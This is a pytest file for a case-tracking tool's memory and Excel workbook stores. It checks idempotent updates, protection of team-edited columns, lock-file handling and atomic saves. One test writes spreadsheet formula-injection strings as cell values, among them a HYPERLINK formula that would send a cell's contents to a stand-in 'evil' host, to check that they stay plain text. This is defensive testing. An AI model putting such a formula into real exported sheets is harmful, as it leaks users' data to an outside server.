"""The memory store and the workbook store: same semantics, rows found by Case ID."""

from __future__ import annotations

import os
import threading
from pathlib import Path

import openpyxl
import pytest

from automation.adapters.memory_store import MemoryStore
from automation.adapters.workbook_store import WorkbookStore, lock_files
from automation.errors import StoreBusyError
from automation.ports import CaseUpdate, ChangeSet, NewCase, TabRows, TabSpec
from automation.sheet import layout as columns

HEADER = list(columns.DEFAULT_ORDER)
COL = {name: i for i, name in enumerate(HEADER)}


def new(case_id: str, subject: str = "hello") -> NewCase:
    return NewCase(case_id, {"Subject": subject, columns.STATUS: "New", "Messages": "1"})


def test_memory_create_update_missing_and_team_cells_kept() -> None:
    store = MemoryStore()
    store.apply(ChangeSet(creates=(new("C-1"), new("C-2"))))
    rows = store.tabs["Cases"]
    assert [r[0] for r in rows[1:]] == ["C-1", "C-2"]
    # the team works the queue and sorts it
    rows[1][COL[columns.NOTES]] = "called them"
    rows[1:] = sorted(rows[1:], key=lambda r: r[0], reverse=True)
    result = store.apply(
        ChangeSet(
            creates=(new("C-1", "again"),),  # a retried create: not duplicated
            updates=(CaseUpdate("C-1", {"Messages": "2"}), CaseUpdate("C-7", {"Messages": "9"})),
        )
    )
    assert result.created == ("C-1",) and result.updated == ("C-1",)
    assert result.missing == ("C-7",)
    case = store.case("C-1")
    assert case is not None
    assert case.get("Messages") == "2" and case.get(columns.NOTES) == "called them"
    assert case.get("Subject") == "hello"
    assert len(store.tabs["Cases"]) == 3


def test_memory_refuses_update_of_team_column() -> None:
    store = MemoryStore()
    store.apply(ChangeSet(creates=(new("C-1"),)))
    with pytest.raises(ValueError):
        store.apply(ChangeSet(updates=(CaseUpdate("C-1", {columns.STATUS: "Closed"}),)))
    assert store.case("C-1") is not None and store.case("C-1").get(columns.STATUS) == "New"  # type: ignore[union-attr]


def test_memory_log_appends_are_idempotent() -> None:
    store = MemoryStore()
    log = TabRows("Quarantine", ("When", "Why"), (("t1", "bad"), ("t2", "worse")))
    store.apply(ChangeSet(appends=(log,)))
    store.apply(ChangeSet(appends=(log,)))
    assert store.tabs["Quarantine"] == [["When", "Why"], ["t1", "bad"], ["t2", "worse"]]


# ---------------------------------------------------------------- workbook


@pytest.fixture()
def book(tmp_path: Path) -> WorkbookStore:
    store = WorkbookStore(tmp_path / "sheetdesk.xlsx")
    specs = [
        TabSpec(
            "Routing",
            ("Trigger", "Role"),
            rows=(("refund", "billing"),),
            notes={"Trigger": "a word"},
            choices={"Role": ("billing", "tech")},
        )
    ]
    assert store.initialize(specs) == ["Cases", "Routing"]
    assert store.initialize(specs) == []  # existing tabs untouched
    return store


def test_workbook_layout(book: WorkbookStore) -> None:
    wb = openpyxl.load_workbook(book.path)
    assert wb.sheetnames == ["Cases", "Routing"]
    cases = wb["Cases"]
    assert [c.value for c in cases[1]] == HEADER
    assert cases.freeze_panes == "B2"  # the header and the Case ID column
    assert any("New" in (dv.formula1 or "") for dv in cases.data_validations.dataValidation)
    assert wb["Routing"]["A1"].comment.text == "a word"
    snap = book.load()
    assert snap.tabs["Routing"] == (("Trigger", "Role"), ("refund", "billing"))


def test_workbook_round_trips_team_edits_and_formula_text(book: WorkbookStore) -> None:
    evil = '=HYPERLINK("http://evil/?"&A2,"x")'
    book.apply(ChangeSet(creates=(new("C-1", evil), new("C-2", "+1"), new("C-3", "@x"))))
    # a person edits the file in their spreadsheet program: reorders, adds a column, notes
    wb = openpyxl.load_workbook(book.path)
    ws = wb["Cases"]
    ws.insert_cols(1)
    ws["A1"] = "My column"
    ws["A2"] = "mine"
    notes_col = HEADER.index(columns.NOTES) + 2
    ws.cell(row=3, column=notes_col, value="phoned")
    ws.delete_rows(4)  # C-3 deleted
    wb.save(book.path)
    result = book.apply(
        ChangeSet(
            updates=(
                CaseUpdate("C-2", {"Messages": "5", "Why": "=cmd"}),
                CaseUpdate("C-3", {"Messages": "2"}),
            )
        )
    )
    assert result.updated == ("C-2",) and result.missing == ("C-3",)
    snap = book.load().by_id()
    assert snap["C-1"].get("Subject") == evil
    assert snap["C-2"].get("Messages") == "5" and snap["C-2"].get(columns.NOTES) == "phoned"
    assert snap["C-2"].get("Why") == "=cmd"
    wb = openpyxl.load_workbook(book.path)
    assert wb["Cases"]["A2"].value == "mine"
    assert all(c.data_type != "f" for row in wb["Cases"].iter_rows() for c in row)


@pytest.mark.parametrize("lock", [".~lock.sheetdesk.xlsx#", "~$sheetdesk.xlsx", "~$eetdesk.xlsx"])
def test_workbook_lock_files_make_apply_busy_and_lose_nothing(
    book: WorkbookStore, lock: str
) -> None:
    assert book.path.parent / lock in lock_files(book.path)
    before = book.path.read_bytes()
    (book.path.parent / lock).write_text("someone")
    changes = ChangeSet(creates=(new("C-1"),))
    with pytest.raises(StoreBusyError, match="open in a spreadsheet program"):
        book.apply(changes)
    assert book.path.read_bytes() == before
    assert book.load().cases == ()  # still readable while open elsewhere
    (book.path.parent / lock).unlink()
    assert book.apply(changes).created == ("C-1",)  # the kept work goes through
    assert [c.case_id for c in book.load().cases] == ["C-1"]


def test_workbook_changed_during_write_is_not_clobbered(book: WorkbookStore) -> None:
    book.apply(ChangeSet(creates=(new("C-1"),)))
    store = book
    original = store._save

    def person_saves_meanwhile(wb: object, before: object) -> None:
        os.utime(store.path, ns=(1, 1))  # the file on disk is no longer the one we read
        original(wb, before)  # type: ignore[arg-type]

    store._save = person_saves_meanwhile  # type: ignore[method-assign]
    with pytest.raises(StoreBusyError, match="changed on disk"):
        store.apply(ChangeSet(creates=(new("C-2"),)))
    store._save = original  # type: ignore[method-assign]
    assert [c.case_id for c in store.load().cases] == ["C-1"]
    assert not list(store.path.parent.glob("*.tmp"))


def test_workbook_save_is_atomic_the_file_always_loads(book: WorkbookStore) -> None:
    """A reader polling the file while saves happen only ever sees a whole workbook."""
    stop = threading.Event()
    failures: list[Exception] = []
    reads = 0

    def reader() -> None:
        nonlocal reads
        while not stop.is_set():
            try:
                openpyxl.load_workbook(book.path).close()
                reads += 1
            except Exception as exc:  # a torn file would show up here
                failures.append(exc)

    thread = threading.Thread(target=reader)
    thread.start()
    try:
        for i in range(15):
            book.apply(ChangeSet(creates=(new(f"C-{i}", "x" * 2000),)))
    finally:
        stop.set()
        thread.join()
    assert not failures and reads > 0
    assert len(book.load().cases) == 15
